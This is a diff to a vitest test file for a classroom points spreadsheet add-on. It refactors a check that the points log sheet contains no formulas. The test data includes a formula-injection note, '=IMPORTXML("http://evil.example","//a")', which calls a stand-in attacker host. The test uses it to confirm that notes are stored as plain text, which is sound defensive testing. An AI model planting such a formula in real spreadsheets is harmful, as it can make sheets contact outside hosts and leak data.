@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { eventToRow, LOG_COL, LOG_WIDTH } from '../../shared/points/log.ts';
 import type { PointEvent } from '../../shared/points/types.ts';
 import { storedText } from '../../shared/sheet-text.ts';
-import { formGroupsRequest, open, otherUser, ROSTER_ZH, type Session } from './helpers.ts';
+import { formGroupsRequest, open, otherUser, ROSTER_ZH, type Session, formulasIn } from './helpers.ts';
 
 /** A spreadsheet with the sample class grouped (分组 sheet written by the add-on). */
 const grouped = async (locale = 'zh-CN'): Promise<Session> => {
@@ -119,12 +119,7 @@ describe('Scoring sidebar: awards, undo, reversal', () => {
       expect(s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1, note }).ok).toBe(true);
     }
     const log = s.si.workbook.sheet('积分记录');
-    expect(
-      log
-        .formulas()
-        .flat()
-        .filter((f) => f !== ''),
-    ).toEqual([]);
+    expect(formulasIn(log)).toEqual([]);
     expect(logRows(s).map((r) => r[LOG_COL.note])).toEqual([
       '=IMPORTXML("http://evil.example","//a")',
       '+1',
